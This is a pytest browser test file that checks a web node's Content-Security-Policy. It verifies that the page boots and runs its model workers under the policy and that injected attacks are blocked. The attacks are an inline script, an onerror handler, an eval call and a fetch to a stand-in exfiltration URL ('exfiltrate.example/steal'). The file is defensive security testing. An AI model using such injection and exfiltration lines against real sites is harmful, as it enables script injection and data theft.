"""The page's Content-Security-Policy: present, the node still boots to ready and its model workers
load under it with no violation, and what it is for holds: an injected inline script or event
handler does not run, eval is refused, fetches to other origins are refused, while WebSockets to
any wss: relay (Trystero's public relays, on a static host) are allowed."""
import json
import time

import pytest

pytestmark = pytest.mark.browser

BOOT_MS = 180_000
PASSWORD = "content security"

# Record every violation from the first script on (the page's own boot included).
RECORD = """
window.__csp = [];
document.addEventListener("securitypolicyviolation", (e) => window.__csp.push({
  directive: e.effectiveDirective, blocked: e.blockedURI, sample: e.sample, source: e.sourceFile }));
"""

ATTACKS = """async () => {
  const before = window.__csp.length;
  window.__ran = [];
  const s = document.createElement("script");
  s.textContent = "window.__ran.push('inline script')";
  document.body.append(s);
  const div = document.createElement("div");
  div.innerHTML = '<img src="data:," onerror="window.__ran.push(\\'handler\\')">';
  document.body.append(div);
  let evalError = null;
  // eval from a task of the page (run synchronously inside this CDP-evaluated call it is exempt,
  // as in devtools' console).
  await new Promise((resolve) => setTimeout(() => {
    try { globalThis.eval("window.__ran.push('eval')"); } catch (e) { evalError = e.name; }
    resolve();
  }, 0));
  let fetchError = null;
  try { await fetch("https://exfiltrate.example/steal?x=1"); } catch (e) { fetchError = e.name; }
  // A public relay as a static host would use: must NOT be blocked (it fails later, offline).
  const ws = new WebSocket("wss://relay.example.org/");
  ws.onerror = () => {};
  await new Promise((r) => setTimeout(r, 1500));
  div.remove(); s.remove();
  return { ran: window.__ran, evalError, fetchError, violations: window.__csp.slice(before) };
}"""


@pytest.fixture
def strict_context(chromium, node_url):
    """Like conftest's fresh_context but with the page's CSP in force: the other browser tests
    bypass it (Playwright's wait_for_function evaluates its predicate with eval, which the policy
    refuses), so here waits poll page.evaluate instead, which runs over CDP like devtools."""
    context = chromium.new_context()
    context.add_init_script("try { localStorage.setItem('rakis.channels', 'none'); } catch (e) {}")
    context.add_init_script(RECORD)
    origin = node_url.rsplit("/", 1)[0]
    context.route("**/*", lambda r: r.continue_() if r.request.url.startswith(origin) else r.abort())
    yield context
    context.close()


def until(page, js: str, timeout_s: float):
    """Poll a JS expression (awaited) until truthy; returns its value (or fails at the timeout)."""
    deadline = time.monotonic() + timeout_s
    while True:
        value = page.evaluate(js)
        if value:
            return value
        assert time.monotonic() < deadline, f"timed out waiting for {js}"
        page.wait_for_timeout(500)


def csp_of(page) -> dict:
    content = page.evaluate(
        "document.querySelector('meta[http-equiv=\"Content-Security-Policy\"]')?.content ?? null")
    assert content, "no Content-Security-Policy meta tag"
    return {d.split()[0]: d.split()[1:] for d in (x.strip() for x in content.split(";")) if d}


def test_page_boots_and_runs_workers_under_its_csp(strict_context, node_url):
    page = strict_context.new_page()
    console = []
    page.on("console", lambda m: console.append(m.text))
    page.goto(node_url + "?llmWorkers=1&embeddingWorkers=1")
    policy = csp_of(page)
    assert policy["script-src"] == ["'self'", "'wasm-unsafe-eval'"]      # no inline, no eval
    assert "'unsafe-inline'" not in sum(policy.values(), [])
    assert {"'self'", "wss:"} <= set(policy["connect-src"])
    assert policy["object-src"] == ["'none'"] and policy["base-uri"] == ["'none'"]

    page.fill("#identity-password", PASSWORD)
    page.click("#identity-submit")
    assert until(page, "document.body.dataset.ready", BOOT_MS / 1000) == "true", page.inner_text("#errors")
    until(page, "window.rakis.status().workers.length === 2 && "
                "window.rakis.status().workers.every(w => w.state === 'ready')", BOOT_MS / 1000)
    # A request end to end: Pyodide, WebCrypto, both model workers, IndexedDB, the charts.
    rid = page.evaluate("window.rakis.submit({prompt: 'Say hi.', quorum: 1, agreement: 50, timeMs: 20000, "
                        "maxTokens: 4, temperature: 0})")
    view = until(page, f"window.rakis.request('{rid}').then(v => v && "
                       f"['completed', 'failed'].includes(v.status) && v)", 120)
    assert view["status"] == "completed", view
    page.wait_for_timeout(2500)                     # a chart redraw (every 2 s) under the policy
    assert page.evaluate("window.__csp") == [], json.dumps(page.evaluate("window.__csp"))

    r = page.evaluate(ATTACKS)
    assert r["ran"] == [], r                         # neither the script, the handler nor eval ran
    assert r["evalError"] == "EvalError", r
    assert r["fetchError"] == "TypeError", r
    blocked = {(v["directive"], v["blocked"]) for v in r["violations"]}
    assert ("script-src-elem", "inline") in blocked, r
    assert ("script-src-attr", "inline") in blocked, r
    assert ("script-src", "eval") in blocked, r
    assert any(d == "connect-src" and b.startswith("https://exfiltrate.example") for d, b in blocked), r
    assert not any(b.startswith("wss://relay.example.org") for _, b in blocked), r
    assert any("Content Security Policy" in line for line in console)


@pytest.mark.parametrize("tls", [True, False], ids=["tls", "http"])
def test_serve_relays_connect_under_the_csp(request, node_dist, tmp_path, tls):
    """`rakis serve` with its local relays, under the policy: the node page boots and both relay
    channels open. tls: as another machine sees `serve --tls` (https://lan.test, relays proxied as
    wss on the page port); http: 127.0.0.1, the relays on their own ports as ws://."""
    from rakis_py.serve import tls as tls_certs
    from rakis_py.serve.relays import LocalRelays, MosquittoRelay, NostrRelay
    from rakis_py.serve.site_config import SiteConfig
    from rakis_py.serve.static import StaticServer
    from tests.build.support import chromium_launcher
    from tests.serve.test_tls_browser import LAN_ARGS, _tls_server
    for why in (NostrRelay.available(), MosquittoRelay.available()):
        if why:
            pytest.skip(why)
    relays = LocalRelays("127.0.0.1", mqtt=True).start()
    if tls:
        cert = tls_certs.self_signed(tmp_path / "tls", ["lan.test", "localhost", "127.0.0.1"])
        server = _tls_server(node_dist, cert, relays, "csp-tls")
        url, prefix = f"https://lan.test:{server.port}/", f"wss://lan.test:{server.port}/relay/"
    else:
        config = SiteConfig(topic="csp-http", relay_ports=relays.ports())
        server = StaticServer(node_dist, "127.0.0.1", 0, lambda host: config.to_json(host)).start()
        url, prefix = server.url, "ws://127.0.0.1:"
    browser = chromium_launcher(request)(LAN_ARGS if tls else [])
    try:
        context = browser.new_context()
        context.add_init_script(RECORD)
        page = context.new_page()
        page.goto(url + "index.html?llmWorkers=0&embeddingWorkers=0")
        assert page.evaluate("window.isSecureContext") is True
        page.fill("#identity-password", PASSWORD)
        page.click("#identity-submit")
        assert until(page, "document.body.dataset.ready", BOOT_MS / 1000) == "true", page.inner_text("#errors")
        health = until(page, "(() => { const c = window.rakis.network().channels; "
                             "return c.length === 2 && c.every(h => h.relay === 'open') && c; })()", 60)
        assert sorted(h["name"] for h in health) == ["mqtt", "nostr"], health
        relays_seen = page.evaluate("window.rakis.network().config.relays")
        assert all(u.startswith(prefix) for us in relays_seen.values() for u in us), relays_seen
        assert page.evaluate("window.__csp") == []
    finally:
        browser.close()
        server.stop()
        relays.stop()
